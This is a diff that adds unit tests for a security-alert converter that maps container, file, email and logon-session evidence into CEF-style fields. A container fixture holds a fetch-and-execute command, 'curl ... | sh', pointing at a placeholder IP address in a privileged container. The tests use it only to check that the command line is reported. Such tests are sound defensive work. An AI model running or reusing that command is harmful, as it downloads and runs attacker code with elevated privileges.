@@ -356,6 +356,72 @@ describe('evidence', () => {
     expect(withFile).not.toHaveProperty('fileHash');
   });
 
+  it('of a container tells what it runs, and that it is privileged', () => {
+    const container = evidence('container', {
+      name: 'web',
+      command: ['/bin/sh', '-c'],
+      args: ['curl -s http://203.0.113.66/x.sh | sh'],
+      isPrivileged: true,
+    });
+    expect(keysOf(container)).toMatchObject({
+      destinationServiceName: 'web',
+      cs5Label: 'commandLine',
+      cs5: '/bin/sh -c curl -s http://203.0.113.66/x.sh | sh',
+      cs6: 'privileged:true',
+    });
+    const process = evidence('process', { processId: 7, processCommandLine: 'runc' });
+    expect(keysOf(process, container)).toMatchObject({
+      cs5: 'runc',
+      cs6: 'process:/bin/sh -c curl -s http://203.0.113.66/x.sh | sh ; privileged:true',
+    });
+    expect(keysOf(evidence('container', { name: 'web', isPrivileged: false }))).not.toHaveProperty('cs6');
+  });
+
+  it('of a blob tells its hashes', () => {
+    const fileHashes = [
+      { algorithm: 'sha256', value: 'ab' },
+      { algorithm: 'md5', value: 'cd' },
+    ];
+    expect(keysOf(evidence('blob', { name: 'x.csv', fileHashes }))).toMatchObject({
+      destinationServiceName: 'x.csv',
+      fileHash: 'ab',
+      cs6: 'fileHash:md5:cd',
+    });
+  });
+
+  it.each([
+    ['bounce@amazonses.example', 'friend@fabrikam.example', 'p1Sender:bounce@amazonses.example'],
+    ['bounce@mail.fabrikam.example', 'friend@fabrikam.example', undefined],
+    ['bounce@evilfabrikam.example', 'friend@fabrikam.example', 'p1Sender:bounce@evilfabrikam.example'],
+    ['friend@Fabrikam.example', 'friend@fabrikam.example', undefined],
+    ['', 'friend@fabrikam.example', undefined],
+    ['friend@fabrikam.example', '', undefined],
+  ])('of a message from %j in the name of %j: %s', (p1, p2, cs6) => {
+    const mail = { p1Sender: { emailAddress: p1 }, p2Sender: { emailAddress: p2 } };
+    expect(keysOf(evidence('analyzedMessage', { networkMessageId: 'n', ...mail })).cs6).toBe(cs6);
+  });
+
+  it('of a message tells what was found in it and where it went', () => {
+    const found = { threats: ['Phish', 'ZapPhish'], deliveryAction: 'Delivered', deliveryLocation: 'Inbox' };
+    expect(keysOf(evidence('analyzedMessage', { networkMessageId: 'n', ...found })).cs6).toBe(
+      'threat:Phish ; threat:ZapPhish ; deliveryAction:Delivered ; deliveryLocation:Inbox',
+    );
+  });
+
+  it('of a session names its device, also without a user agent', () => {
+    const session = evidence('cloudLogonSession', {
+      sessionId: 's',
+      deviceName: 'pc1',
+      account: { userAccount: { userPrincipalName: 'bob@contoso.com' } },
+    });
+    expect(keysOf(session)).toMatchObject({
+      shost: 'pc1',
+      suser: 'bob@contoso.com',
+      cs6: 'cloudLogonSession:s',
+    });
+    expect(keysOf(session, device('srv1')).cs6).toBe('cloudLogonSession:s ; device:pc1');
+  });
+
   it('keeps a number that its key cannot hold', () => {
     const fields = keysOf(evidence('process', { processId: 4_294_967_295, imageFile: { fileName: 'a' } }));
     expect(fields).not.toHaveProperty('spid');
